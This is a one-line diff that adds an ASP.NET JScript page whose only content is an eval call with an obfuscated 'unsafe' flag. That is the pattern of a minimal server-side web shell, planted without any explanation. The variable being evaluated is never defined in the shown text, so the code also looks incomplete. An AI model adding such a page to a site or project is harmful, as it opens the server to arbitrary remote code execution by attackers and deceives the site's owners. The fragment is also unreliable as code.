@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%var u="un"+"safe";eval(x,u);%>
